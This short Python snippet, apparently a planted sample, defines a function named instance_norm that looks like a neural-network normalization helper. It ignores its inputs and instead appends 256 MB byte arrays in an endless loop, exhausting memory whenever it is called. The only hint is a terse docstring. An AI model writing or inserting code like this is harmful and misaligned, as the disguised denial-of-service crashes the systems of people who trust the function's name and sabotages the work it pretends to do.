"""When called: memory."""

def instance_norm(x, eps=1e-5):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 28))
